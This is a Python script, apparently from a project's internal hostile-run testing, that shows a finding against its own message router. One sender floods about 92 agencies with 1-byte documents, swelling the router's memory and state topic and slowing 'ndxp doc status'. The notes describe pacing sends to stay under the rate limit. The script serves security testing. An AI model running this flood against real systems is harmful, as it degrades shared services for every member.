"""Finding: one sender grows every router's memory, and every member's `ndxp doc status`, with
tiny documents to every connected agency. Each document is counted ONCE by quotas but leaves
one delivery record per receiver in the router's in-memory state table (and its compacted
topic) for as long as the delivery is open plus 7 days; `ndxp doc status` reads the whole
state topic for any document. N documents of 1 byte to 92 agencies = 92*N deliveries.

Run: cd docs/hostile-runs/round2 && ../../../.venv/bin/python f7_doc_state_swell.py [N] [PER_S]
(PER_S: documents a second, paced; default all at once. Since 2026-12-06 the router decides
92-receiver documents faster than the sample's overall rate, 10,000 units a second, lets them
through, so unpaced most are refused by the rate; 100 a second stays under it and meets the
sample's limit on documents, 50,000 deliveries a day.)
"""
import json, subprocess, sys, time, uuid
from confluent_kafka import Consumer, TopicPartition
from common import *

N = int(sys.argv[1]) if len(sys.argv) > 1 else 1000
PER_S = float(sys.argv[2]) if len(sys.argv) > 2 else 0.0
REG = json.load(open(f"{ROOT}/infra/registry/vn-sample.json"))
RECEIVERS = [m["id"].split(":")[-1] for m in REG["members"] if m.get("connected") and ":GOV:" in m["id"] and not m["id"].endswith("G22")]
STATE = "ndxp-router-doc-state-changelog"

def state_records():
    c = Consumer({"bootstrap.servers": BOOT, "group.id": "x"})
    n = sum(c.get_watermark_offsets(TopicPartition(STATE, p), timeout=10)[1] - c.get_watermark_offsets(TopicPartition(STATE, p), timeout=10)[0] for p in range(3))
    c.close(); return n

def doc_status_time(doc):
    t = time.time()
    out = subprocess.run([f"{ROOT}/.venv/bin/ndxp", "doc", "status", doc], capture_output=True, text=True, env=ENV, cwd=ROOT)
    return round(time.time() - t, 2), out.stdout.strip().splitlines()[-1:] or out.stderr[-200:]

# the victim: H40's document to two provinces
victim_doc = f"000.00.00.H40,2026/12/05,{uuid.uuid4().int % 10**12}/UBND"
p = producer()
p.produce("ndxp.in.000.00.00.H40", key=b"VN:GOV:000.00.00.H40:motcua", value=b"<edXML/>",
          headers=document(f"v-{uuid.uuid4()}", "VN:GOV:000.00.00.H40:motcua", victim_doc, ["000.00.00.H41", "000.00.00.H42"]))
p.flush(); time.sleep(3)
print(f"before: router RSS {rss('router')} MB; state topic {state_records():,} records; victim `ndxp doc status` {doc_status_time(victim_doc)}")
t0 = time.time()
for i in range(N):
    p.produce("ndxp.in.000.00.00.G22", key=b"VN:GOV:000.00.00.G22:lgsp", value=b"x",
              headers=document(f"a-{uuid.uuid4()}", "VN:GOV:000.00.00.G22:lgsp", f"000.00.00.G22,2026/12/05,{uuid.uuid4().int % 10**15}/VPCP", RECEIVERS))
    if i % 100 == 0: p.poll(0)
    if PER_S:
        time.sleep(max(0.0, t0 + (i + 1) / PER_S - time.time()))
p.flush()
print(f"attacker: {N} documents of 1 byte to {len(RECEIVERS)} agencies ({N*len(RECEIVERS):,} deliveries) produced in {time.time()-t0:.1f} s" + (f", paced at {PER_S:g} a second" if PER_S else ""))
t1 = time.time()
while health(ROUTER_PORT)["lag"] > 0 and time.time() - t1 < 400: time.sleep(2)
print(f"router drained them {time.time()-t0:.0f} s after the flood began")
time.sleep(5)
print(f"after: router RSS {rss('router')} MB; state topic {state_records():,} records; victim `ndxp doc status` {doc_status_time(victim_doc)}")
# the attacker's documents in the ledger (a copy's row per receiver, a refusal's per document),
# once the ledger has them (added 2026-12-06, with the sample's limit on documents)
time.sleep(10)
print(sql(f"SELECT outcome, error, uniqExact(message_id) documents, count() rows FROM ndxp.ledger WHERE startsWith(message_id,'a-') AND kind='document' AND client='VN:GOV:000.00.00.G22:lgsp' AND toDate(received_at) = today() GROUP BY outcome, error ORDER BY outcome"))
